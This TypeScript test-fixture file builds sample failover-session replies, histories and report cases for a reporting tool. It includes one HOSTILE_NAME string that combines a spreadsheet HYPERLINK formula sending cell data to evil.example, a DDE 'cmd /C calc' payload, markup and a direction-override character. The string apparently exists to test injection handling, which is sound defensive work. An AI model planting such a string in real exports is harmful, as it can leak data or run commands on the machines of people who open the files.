import type { HistoryReply, HistorySample, HistoryTransition } from '@/lib/api/record-replies'
import type { SessionReply, TaskView } from '@/lib/api/replies'
import type { RunReport, ShownReport } from '@/lib/api/report'
import { toCounts, toOutcome } from '@/lib/failover/outcome'
import { parseSessionId, type SessionId } from '@/lib/failover/ids'
import type { EarlierAttempts } from '@/lib/server/earlier-attempts'
import { sha256Of, toReportJson } from '@/lib/server/report-json'
import { toRunReport } from '@/lib/server/report-model'
import type { PlanVm } from '@/lib/server/report-not-run'
import {
  makeCollection,
  makeFreshness,
  makeRunningTasks,
  makeTarget,
  makeTask,
  NOW_MS,
  SESSION_ID,
  utc,
} from '../components/fixtures'
import { MAY_NOTHING, NOTHING_SAID } from '../samples/teamwork'

export { makeTask, NOW_MS, SESSION_ID, utc }

export const START_MS = NOW_MS - 18 * 60_000 - 4000
export const EM_URL = 'https://em.example:9398'

export function idOf(text: string): SessionId {
  const id = parseSessionId(text)
  if (id === null) throw new Error('the fixture is an id')
  return id
}

type ReplySpec = Partial<Omit<SessionReply, 'session'>> & { session?: Partial<SessionReply['session']> }

/** The run of the fixtures as a whole reply of this contract, whatever the other fixtures leave out. */
export function makeReply({ session: head, ...rest }: ReplySpec = {}): SessionReply {
  const session: SessionReply['session'] = {
    uid: `urn:veeam:CloudFailoverSession:${SESSION_ID}`,
    id: SESSION_ID,
    name: 'ABC Company Failover Plan',
    jobType: 'FailoverPlan',
    creationTimeUtc: utc(START_MS),
    endTimeUtc: null,
    state: 'Working',
    result: 'None',
    progress: 52,
    failureMessage: null,
    backupServer: { id: '00000000-0000-4000-8000-000000000900', name: 'sp-vbr-01.tech.local' },
    plan: { id: '00000000-0000-4000-8000-000000000901', name: 'ABC Company Failover Plan' },
    tenant: { id: '00000000-0000-4000-8000-000000000902', name: 'ABC Company' },
    tasks: makeRunningTasks(),
    tasksFrom: 'em',
    tasksRecordedAtUtc: utc(NOW_MS - 3000),
    ...head,
  }
  const counts = toCounts(session.tasks)
  return {
    session,
    outcome: toOutcome(session, counts),
    counts,
    freshness: makeFreshness(session.endTimeUtc === null ? {} : { level: 'final' }),
    inEnterpriseManager: true,
    planned: [],
    plannedLeftOut: null,
    recovery: {
      target: makeTarget(60, 30),
      eta: { kind: 'none', reason: 'ended' },
      targetUnread: false,
      noProgressSinceUtc: null,
    },
    attempts: null,
    keptApart: [],
    screenCodes: null,
    emClockAheadMs: 0,
    unreadable: { plan: null, collection: null },
    collection: makeCollection(),
    pollAfterMs: 3000,
    tag: null,
    ...NOTHING_SAID,
    may: MAY_NOTHING,
    ...rest,
  }
}

/** The same run, over: every VM that was under way has succeeded, unless `tasks` says otherwise. */
export function makeEndedReply({ session: head, ...rest }: ReplySpec = {}): SessionReply {
  const tasks = makeRunningTasks().map((task, index) =>
    task.endTimeUtc === null
      ? makeTask(index + 1, { vmName: task.vmName, vmReplicaPoint: task.vmReplicaPoint })
      : task,
  )
  const session = {
    state: 'Stopped',
    result: 'Warning',
    progress: 100,
    endTimeUtc: utc(NOW_MS - 30_000),
    tasks,
    tasksRecordedAtUtc: utc(NOW_MS - 28_000),
    ...head,
  }
  return makeReply({ session, ...rest })
}

const none = { waiting: 0, working: 0, succeeded: 0, warning: 0, failed: 0, unknown: 0 }

/** What the record holds of the run: seen from its first second on, and to its end if it has one. */
export function makeHistory(reply: SessionReply, spec: Partial<HistoryReply> = {}): HistoryReply {
  const { session } = reply
  const sightMs = START_MS + 2000
  const sample = (atMs: number, counts: Partial<HistorySample['counts']>): HistorySample => ({
    atUtc: utc(atMs),
    progress: 0,
    counts: { total: 0, ...none, ...counts },
  })
  const change = (atMs: number, rest: Partial<HistoryTransition>): HistoryTransition => ({
    atUtc: utc(atMs),
    notBeforeUtc: utc(atMs - 3000),
    emTimeUtc: null,
    key: null,
    field: 'state',
    from: null,
    to: null,
    ...rest,
  })
  const ended = session.state === 'Stopped'
  return {
    samples: [sample(sightMs, {}), sample(sightMs + 3000, { total: 1, working: 1 })],
    taskSamples: [],
    transitions: [
      change(sightMs, { notBeforeUtc: null, emTimeUtc: session.creationTimeUtc, to: 'Starting' }),
      change(sightMs + 3000, { from: 'Starting', to: 'Working' }),
      ...session.tasks.flatMap(({ key, state, result, creationTimeUtc, endTimeUtc }, index) => {
        const atMs = sightMs + 20_000 * index + 4000
        const first = change(atMs, { key, notBeforeUtc: null, emTimeUtc: creationTimeUtc, to: 'Working' })
        if (endTimeUtc === null) return [first]
        const last = { key, emTimeUtc: endTimeUtc }
        return [
          first,
          change(atMs + 200_000, { ...last, from: 'Working', to: state }),
          change(atMs + 200_000, { ...last, field: 'result', from: 'None', to: result }),
        ]
      }),
      ...(ended
        ? [
            change(NOW_MS - 28_000, { emTimeUtc: session.endTimeUtc, from: 'Working', to: session.state }),
            change(NOW_MS - 28_000, { field: 'result', from: 'None', to: session.result }),
          ]
        : []),
    ].sort((a, b) => a.atUtc.localeCompare(b.atUtc)),
    gaps: [],
    recordedFromUtc: utc(sightMs),
    recordedToUtc: utc(ended ? NOW_MS - 28_000 : NOW_MS),
    thinned: false,
    pollAfterMs: ended ? null : 15_000,
    ...spec,
  }
}

export const GAPS: HistoryReply['gaps'] = [
  { fromUtc: utc(START_MS + 60_000), toUtc: utc(START_MS + 150_000), code: 'timed_out' },
  { fromUtc: utc(START_MS + 400_000), toUtc: utc(START_MS + 460_000), code: 'not_recorded' },
]

export function makePlanVms(reply: SessionReply, others: readonly (string | null)[] = []): PlanVm[] {
  return [...reply.session.tasks.map(({ vmName }) => vmName), ...others].map((name, order) => ({
    name,
    order,
  }))
}

type Spec = { history?: HistoryReply | null; planVms?: PlanVm[] | null; earlier?: EarlierAttempts }

export function makeReport(reply: SessionReply, spec: Spec = {}): RunReport {
  const { history = makeHistory(reply), planVms = makePlanVms(reply), earlier = { kind: 'none' } } = spec
  const planUnknown = reply.unreadable.plan
  return toRunReport({ reply, history, planVms, planUnknown, earlier, emUrl: EM_URL })
}

export const FIRST_ATTEMPT_ID = idOf('00000000-0000-4000-8000-000000000f01')
const FIRST_ATTEMPT_MS = START_MS - 40 * 60_000

/** That the run is the second attempt of one failover, by a person's word. */
export const SECOND_ATTEMPT: NonNullable<SessionReply['attempts']> = {
  kind: 'confirmed',
  number: 2,
  of: 2,
  firstStartUtc: utc(FIRST_ATTEMPT_MS),
  lastEndUtc: null,
  outcome: { kind: 'unknown', reported: '' },
  counts: { total: 0, ...none },
  runs: [],
  vms: [],
  confirmedBy: 'Mia Kern',
  confirmedAtUtc: utc(NOW_MS),
}

type EarlierVm = Extract<EarlierAttempts, { kind: 'known' }>['vms'][number]

/** A VM as the first attempt of two left it. */
export const makeEarlierVm = (name: string | null, standing: EarlierVm['standing']): EarlierVm => ({
  name,
  standing,
  run: 1,
  key: `key of ${name}`,
  sessionId: FIRST_ATTEMPT_ID,
  sessionCreationTimeUtc: utc(FIRST_ATTEMPT_MS),
  creationTimeUtc: utc(FIRST_ATTEMPT_MS + 60_000),
  endTimeUtc: utc(FIRST_ATTEMPT_MS + 180_000),
})

export function show(report: RunReport, kept = true): ShownReport {
  const json = toReportJson(report)
  return { report, json, sha256: sha256Of(json), kept }
}

/** A name that tries everything at once: a formula, quotes, separators, lines, markup, another direction. */
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example?"&A1;"x"),\n+cmd|\'/C calc\'!A0<b>\u202eexe'

export function makeManyTasks(count: number): TaskView[] {
  return Array.from({ length: count }, (_, index) => {
    const n = index + 1
    if (n % 50 === 0)
      return makeTask(n, { result: 'Failed', failureMessage: `Disk ${n} of "host", 50% full; -1` })
    if (n % 31 === 0) return makeTask(n, { state: 'Working', result: 'None', progress: 40, endTimeUtc: null })
    return makeTask(n, { pointAgeMinutes: 5 + (n % 40) })
  })
}

/** The runs that every form is tried with. */
export function makeCases(): Record<string, RunReport> {
  const running = makeReply()
  const ended = makeEndedReply()
  const many = makeEndedReply({ session: { tasks: makeManyTasks(300) } })
  const recorded = makeEndedReply({
    inEnterpriseManager: false,
    session: { tasksFrom: 'record', tasks: makeRunningTasks(), tasksRecordedAtUtc: utc(NOW_MS - 33_000) },
  })
  const emptied = makeEndedReply({ session: { tasks: [], tasksRecordedAtUtc: null } })
  const odd = makeEndedReply({
    session: {
      name: HOSTILE_NAME,
      creationTimeUtc: null,
      tenant: null,
      tasks: [
        makeTask(1, { vmName: HOSTILE_NAME, failureMessage: '-1+1' }),
        makeTask(2, { vmName: null, vmReplicaPoint: null }),
        makeTask(3, { result: 'Success?', endTimeUtc: null }),
        makeTask(4, { result: 'Failed' }),
      ],
    },
    unreadable: { plan: 'ambiguous', collection: null },
  })
  return {
    running: makeReport(running, { planVms: makePlanVms(running, ['web04', 'web05']) }),
    ended: makeReport(ended),
    'with gaps': makeReport(ended, { history: makeHistory(ended, { gaps: GAPS }) }),
    'open gap': makeReport(running, {
      history: makeHistory(running, {
        gaps: [{ fromUtc: utc(NOW_MS - 45_000), toUtc: null, code: 'unreachable' }],
      }),
    }),
    recorded: makeReport(recorded, { planVms: makePlanVms(recorded, ['late01']) }),
    emptied: makeReport(emptied, { history: null, planVms: null }),
    odd: makeReport(odd, { planVms: null }),
    many: makeReport(many, { planVms: makePlanVms(many, ['vm301']) }),
    retried: makeReport(
      { ...ended, attempts: SECOND_ATTEMPT },
      {
        planVms: makePlanVms(ended, ['up01', 'late01', HOSTILE_NAME]),
        earlier: {
          kind: 'known',
          vms: [makeEarlierVm('UP01', 'succeeded'), makeEarlierVm(HOSTILE_NAME, 'warning')],
          unseen: false,
        },
      },
    ),
  }
}
